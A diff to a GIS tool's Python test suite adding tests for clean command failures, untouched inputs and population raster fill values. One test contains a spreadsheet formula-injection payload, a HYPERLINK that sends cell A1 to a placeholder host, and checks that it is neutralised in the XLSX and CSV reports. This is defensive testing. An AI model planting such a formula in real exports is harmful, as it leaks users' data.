@@ -25,11 +25,13 @@ from futiangis import errors
 from futiangis.cli.main import cli
 from futiangis.load import load_layer, load_raster
 from futiangis.schemas import LAYER_KINDS
+from futiangis.zonal import check_population_raster
 
 ROOT = Path(__file__).resolve().parents[1]
 BAD = ROOT / "tests" / "data" / "bad"
 MANIFEST = json.loads((BAD / "cases.json").read_text(encoding="utf-8"))
 CASES = MANIFEST["cases"]
+COMMANDS = MANIFEST.get("commands", [])
 RASTER_KINDS = ("dem", "population")
 NOISE = ("Traceback", "Internal error", "UserWarning", "RuntimeWarning", "FutureWarning",
          "DeprecationWarning")
@@ -219,7 +221,9 @@ def test_load_api(case, config):
     kwargs = _kwargs(case["args"])
     if case["kind"] in RASTER_KINDS:
         def load():
-            return load_raster(path, config=config)
+            raster = load_raster(path, config=config)
+            # population counts people: fill values are refused where it is used
+            return check_population_raster(raster) if case["kind"] == "population" else raster
     else:
         def load():
             return load_layer(path, case["kind"], config=config, **kwargs)
@@ -270,3 +274,54 @@ def test_hole_touching_shell_at_a_point_is_valid(tmp_path, config):
     prepared = load_layer(tmp_path / "ok.gpkg", "parks", config=config)
     # 100 x 100 box minus a triangle of base 20 and height 20: 10,000 - 200 = 9,800 m²
     assert prepared.gdf.area.iloc[0] == pytest.approx(9_800.0)
+
+
+# ---------------------------------------------------------------------------------------
+# whole commands (issue 9): outputs that would destroy an input, inputs that crashed
+# ---------------------------------------------------------------------------------------
+def test_manifest_lists_the_nothing_lost_commands():
+    names = {c["name"] for c in COMMANDS}
+    assert {"import_onto_its_input", "coverage_gaps_onto_facilities", "import_fix_grows_polygon",
+            "import_fix_nan_vertex", "coverage_population_fill_value", "radius_nan",
+            "build_out_under_a_file"} <= names
+    for c in COMMANDS:
+        assert c["fix"] and c["message"] and c["exit_code"] in (1, 2), c["name"]
+
+
+@pytest.mark.parametrize("case", COMMANDS, ids=[c["name"] for c in COMMANDS])
+def test_command_fails_cleanly_and_touches_nothing(case, tmp_path):
+    files = {f: _sha(BAD / f) for f in case["files"]}
+    args = [a.replace("{bad}", str(BAD)).replace("{tmp}", str(tmp_path)) for a in case["args"]]
+    result = CliRunner().invoke(cli, args)
+    assert result.exit_code == case["exit_code"], result.output
+    assert isinstance(result.exception, SystemExit)
+    for word in NOISE:
+        assert word not in result.output
+    assert re.search(case["message"], result.output, re.S), result.output
+    assert {f: _sha(BAD / f) for f in files} == files
+    assert list(tmp_path.iterdir()) == []  # no output, no temp file, no staging folder
+
+
+def test_formula_field_names_and_values_come_out_inert(tmp_path):
+    """A field *name* starting with = was a live HYPERLINK in the XLSX header row."""
+    import csv
+    import io
+
+    import openpyxl
+
+    src = BAD / "geojson_formula_field_name.geojson"
+    before = _sha(src)
+    out = tmp_path / "report"
+    result = CliRunner().invoke(cli, ["target", "--sites", str(src), "--out", str(out)])
+    assert result.exit_code == 0, result.output
+    wb = openpyxl.load_workbook(out / "target_report.xlsx")
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    header = [c.value for c in wb["sites"][1]]
+    assert '=HYPERLINK("http://example.invalid/?"&A1;"x")' in header  # kept as written, as text
+    text = (out / "sites.csv").read_bytes().decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert "'=HYPERLINK(\"http://example.invalid/?\"&A1;\"x\")" in rows[0]
+    for cell in (c for r in rows for c in r):
+        assert not cell.startswith(("=", "+", "@")), cell
+    assert _sha(src) == before
